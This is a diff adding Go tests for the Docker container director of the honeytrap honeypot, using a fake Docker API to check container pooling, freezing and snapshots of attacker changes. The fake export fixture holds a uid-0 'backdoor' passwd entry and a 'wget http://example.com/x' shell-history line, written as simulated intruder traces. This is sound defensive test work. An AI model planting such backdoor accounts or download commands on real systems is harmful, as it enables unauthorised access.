@@ -0,0 +1,466 @@
+// Copyright 2016-2019 DutchSec (https://dutchsec.com/)
+//
+// Licensed under the Apache License, Version 2.0 (the "License");
+// you may not use this file except in compliance with the License.
+// You may obtain a copy of the License at
+//
+// http://www.apache.org/licenses/LICENSE-2.0
+//
+// Unless required by applicable law or agreed to in writing, software
+// distributed under the License is distributed on an "AS IS" BASIS,
+// WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
+// See the License for the specific language governing permissions and
+// limitations under the License.
+package docker
+
+import (
+	"archive/tar"
+	"bytes"
+	"compress/gzip"
+	"encoding/json"
+	"io"
+	"io/ioutil"
+	"net"
+	"net/http"
+	"os"
+	"path/filepath"
+	"sort"
+	"strings"
+	"sync"
+	"testing"
+	"time"
+
+	"github.com/honeytrap/honeytrap/config"
+	"github.com/honeytrap/honeytrap/director"
+)
+
+// fakeDocker implements the parts of the Docker Engine API used by
+// the director.
+type fakeDocker struct {
+	m          sync.Mutex
+	networks   map[string]networkConfig
+	containers map[string]*containerConfig
+	running    map[string]bool
+	paused     map[string]bool
+}
+
+func (f *fakeDocker) ServeHTTP(w http.ResponseWriter, r *http.Request) {
+	f.m.Lock()
+	defer f.m.Unlock()
+
+	parts := strings.Split(strings.Trim(r.URL.Path, "/"), "/")
+
+	notFound := func() {
+		w.WriteHeader(http.StatusNotFound)
+		json.NewEncoder(w).Encode(map[string]string{"message": "not found"})
+	}
+
+	switch {
+	case r.Method == "GET" && len(parts) == 2 && parts[0] == "networks":
+		if _, ok := f.networks[parts[1]]; !ok {
+			notFound()
+			return
+		}
+	case r.Method == "POST" && r.URL.Path == "/networks/create":
+		config := networkConfig{}
+		json.NewDecoder(r.Body).Decode(&config)
+		f.networks[config.Name] = config
+		w.WriteHeader(http.StatusCreated)
+	case r.Method == "POST" && r.URL.Path == "/containers/create":
+		name := r.URL.Query().Get("name")
+		if _, ok := f.containers[name]; ok {
+			w.WriteHeader(http.StatusConflict)
+			return
+		}
+
+		config := &containerConfig{}
+		json.NewDecoder(r.Body).Decode(config)
+		f.containers[name] = config
+
+		w.WriteHeader(http.StatusCreated)
+		json.NewEncoder(w).Encode(map[string]string{"Id": name})
+	case r.Method == "GET" && r.URL.Path == "/containers/json":
+		containers := []map[string][]string{}
+		for name := range f.containers {
+			containers = append(containers, map[string][]string{"Names": []string{"/" + name}})
+		}
+		json.NewEncoder(w).Encode(containers)
+	case len(parts) >= 2 && parts[0] == "containers":
+		id := parts[1]
+		if _, ok := f.containers[id]; !ok {
+			notFound()
+			return
+		}
+
+		if r.Method == "DELETE" {
+			delete(f.containers, id)
+			return
+		}
+
+		switch parts[2] {
+		case "json":
+			state := containerState{ID: id, Name: "/" + id}
+			state.State.Running = f.running[id]
+			state.State.Paused = f.paused[id]
+			state.NetworkSettings.Networks = map[string]struct {
+				IPAddress string `json:"IPAddress"`
+			}{
+				"honeytrap": {IPAddress: "127.0.0.1"},
+			}
+			json.NewEncoder(w).Encode(state)
+		case "start":
+			f.running[id] = true
+			w.WriteHeader(http.StatusNoContent)
+		case "stop":
+			f.running[id] = false
+			w.WriteHeader(http.StatusNoContent)
+		case "pause":
+			f.paused[id] = true
+			w.WriteHeader(http.StatusNoContent)
+		case "unpause":
+			f.paused[id] = false
+			w.WriteHeader(http.StatusNoContent)
+		case "changes":
+			json.NewEncoder(w).Encode([]change{
+				{Path: "/root", Kind: changeModified},
+				{Path: "/root/.bash_history", Kind: changeAdded},
+				{Path: "/etc/passwd", Kind: changeModified},
+				{Path: "/var/log/wtmp", Kind: changeDeleted},
+			})
+		case "export":
+			tw := tar.NewWriter(w)
+			tw.WriteHeader(&tar.Header{Name: "root/", Typeflag: tar.TypeDir, Mode: 0700})
+			for name, data := range map[string]string{
+				"bin/sh":             "ELF",
+				"etc/passwd":         "root:x:0:0::/root:/bin/sh\nbackdoor:x:0:0::/:/bin/sh\n",
+				"root/.bash_history": "wget http://example.com/x\n",
+			} {
+				tw.WriteHeader(&tar.Header{Name: name, Typeflag: tar.TypeReg, Mode: 0644, Size: int64(len(data))})
+				tw.Write([]byte(data))
+			}
+			tw.Close()
+		default:
+			notFound()
+		}
+	default:
+		notFound()
+	}
+}
+
+type addrConn struct {
+	net.Conn
+
+	laddr net.Addr
+	raddr net.Addr
+}
+
+func (c *addrConn) LocalAddr() net.Addr {
+	return c.laddr
+}
+
+func (c *addrConn) RemoteAddr() net.Addr {
+	return c.raddr
+}
+
+func TestDockerDirector(t *testing.T) {
+	dir, err := ioutil.TempDir("", "honeytrap-docker")
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	defer os.RemoveAll(dir)
+
+	l, err := net.Listen("unix", filepath.Join(dir, "docker.sock"))
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	fake := &fakeDocker{
+		networks:   map[string]networkConfig{},
+		containers: map[string]*containerConfig{},
+		running:    map[string]bool{},
+		paused:     map[string]bool{},
+	}
+
+	go http.Serve(l, fake)
+
+	// the service running in the container
+	service, err := net.Listen("tcp", "127.0.0.1:0")
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	defer service.Close()
+
+	go func() {
+		for {
+			conn, err := service.Accept()
+			if err != nil {
+				return
+			}
+
+			go io.Copy(conn, conn)
+		}
+	}()
+
+	d, err := New(func(d director.Director) error {
+		dd := d.(*dockerDirector)
+		dd.Host = "unix://" + filepath.Join(dir, "docker.sock")
+		dd.Image = "honeytrap/ssh"
+		dd.Memory = 256
+		dd.Pool.ResetAfterSession = true
+		dd.Pool.SnapshotBeforeDestroy = true
+		dd.Pool.SnapshotDir = filepath.Join(dir, "snapshots")
+		return nil
+	})
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	conn, err := d.Dial(&addrConn{
+		laddr: service.Addr(),
+		raddr: &net.TCPAddr{IP: net.ParseIP("10.0.0.1"), Port: 1234},
+	})
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	conn.Write([]byte("hello"))
+
+	buf := make([]byte, 5)
+	if _, err := io.ReadFull(conn, buf); err != nil {
+		t.Fatal(err)
+	} else if string(buf) != "hello" {
+		t.Errorf("Expected hello, got %q", buf)
+	}
+
+	fake.m.Lock()
+	if network, ok := fake.networks["honeytrap"]; !ok || !network.Internal {
+		t.Errorf("Expected internal network to be created, got %+v", fake.networks)
+	}
+
+	name := director.ContainerName("10.0.0.1")
+	if config, ok := fake.containers[name]; !ok {
+		t.Errorf("Expected container %s to be created", name)
+	} else if config.HostConfig.Memory != 256*1024*1024 || config.HostConfig.NetworkMode != "honeytrap" {
+		t.Errorf("Unexpected host config %+v", config.HostConfig)
+	}
+	fake.m.Unlock()
+
+	conn.Close()
+
+	// container will be snapshotted and removed
+	var matches []string
+	for i := 0; i < 100 && len(matches) == 0; i++ {
+		time.Sleep(time.Millisecond * 10)
+
+		fake.m.Lock()
+		_, ok := fake.containers[name]
+		fake.m.Unlock()
+
+		if !ok {
+			matches, _ = filepath.Glob(filepath.Join(dir, "snapshots", name+"-*.tar.gz"))
+		}
+	}
+
+	if len(matches) != 1 {
+		t.Fatalf("Expected snapshot of container, got %v", matches)
+	}
+
+	data, err := ioutil.ReadFile(matches[0])
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	gr, err := gzip.NewReader(bytes.NewReader(data))
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	names := []string{}
+
+	tr := tar.NewReader(gr)
+	for {
+		hdr, err := tr.Next()
+		if err == io.EOF {
+			break
+		} else if err != nil {
+			t.Fatal(err)
+		}
+
+		names = append(names, hdr.Name)
+	}
+
+	sort.Strings(names)
+
+	if strings.Join(names, ",") != "changes.json,rootfs/etc/passwd,rootfs/root/.bash_history" {
+		t.Errorf("Unexpected snapshot contents: %v", names)
+	}
+}
+
+func TestDockerDirectorStart(t *testing.T) {
+	dir, err := ioutil.TempDir("", "honeytrap-docker")
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	defer os.RemoveAll(dir)
+
+	l, err := net.Listen("unix", filepath.Join(dir, "docker.sock"))
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	// a pre-started container of a previous run
+	fake := &fakeDocker{
+		networks: map[string]networkConfig{},
+		containers: map[string]*containerConfig{
+			"honeytrap-pool-old": {},
+		},
+		running: map[string]bool{},
+		paused:  map[string]bool{},
+	}
+
+	go http.Serve(l, fake)
+
+	d, err := New(func(d director.Director) error {
+		dd := d.(*dockerDirector)
+		dd.Host = "unix://" + filepath.Join(dir, "docker.sock")
+		dd.Image = "honeytrap/ssh"
+		return nil
+	})
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	exists := func() bool {
+		fake.m.Lock()
+		defer fake.m.Unlock()
+
+		_, ok := fake.containers["honeytrap-pool-old"]
+		return ok
+	}
+
+	time.Sleep(time.Millisecond * 50)
+
+	if !exists() {
+		t.Fatal("Expected containers not to be removed before the director has been started")
+	}
+
+	if err := d.(director.Starter).Start(); err != nil {
+		t.Fatal(err)
+	}
+
+	for i := 0; i < 100 && exists(); i++ {
+		time.Sleep(time.Millisecond * 10)
+	}
+
+	if exists() {
+		t.Error("Expected container of previous run to be removed")
+	}
+}
+
+func TestDockerDirectorHousekeeper(t *testing.T) {
+	dir, err := ioutil.TempDir("", "honeytrap-docker")
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	defer os.RemoveAll(dir)
+
+	l, err := net.Listen("unix", filepath.Join(dir, "docker.sock"))
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	fake := &fakeDocker{
+		networks:   map[string]networkConfig{},
+		containers: map[string]*containerConfig{},
+		running:    map[string]bool{},
+		paused:     map[string]bool{},
+	}
+
+	go http.Serve(l, fake)
+
+	service, err := net.Listen("tcp", "127.0.0.1:0")
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	defer service.Close()
+
+	go func() {
+		for {
+			conn, err := service.Accept()
+			if err != nil {
+				return
+			}
+
+			go io.Copy(conn, conn)
+		}
+	}()
+
+	d, err := New(func(d director.Director) error {
+		dd := d.(*dockerDirector)
+		dd.Host = "unix://" + filepath.Join(dir, "docker.sock")
+		dd.Image = "honeytrap/ssh"
+		dd.FreezeDelay = config.Delay(time.Millisecond * 50)
+		dd.StopDelay = config.Delay(time.Millisecond * 200)
+		dd.HousekeeperDelay = config.Delay(time.Millisecond * 10)
+		return nil
+	})
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	conn, err := d.Dial(&addrConn{
+		laddr: service.Addr(),
+		raddr: &net.TCPAddr{IP: net.ParseIP("10.0.0.1"), Port: 1234},
+	})
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	defer conn.Close()
+
+	name := director.ContainerName("10.0.0.1")
+
+	state := func() (bool, bool) {
+		fake.m.Lock()
+		defer fake.m.Unlock()
+
+		return fake.running[name], fake.paused[name]
+	}
+
+	wait := func(running, paused bool) {
+		for i := 0; i < 100; i++ {
+			if r, p := state(); r == running && p == paused {
+				return
+			}
+
+			time.Sleep(time.Millisecond * 5)
+		}
+
+		r, p := state()
+		t.Fatalf("Expected container running=%t paused=%t, got running=%t paused=%t", running, paused, r, p)
+	}
+
+	// idle container will be frozen
+	wait(true, true)
+
+	// and unfrozen when active again
+	conn.Write([]byte("hello"))
+
+	if r, p := state(); !r || p {
+		t.Errorf("Expected active container to be unfrozen, got running=%t paused=%t", r, p)
+	}
+
+	buf := make([]byte, 5)
+	if _, err := io.ReadFull(conn, buf); err != nil {
+		t.Fatal(err)
+	}
+
+	// idle container will be frozen and stopped
+	wait(true, true)
+	wait(false, false)
+}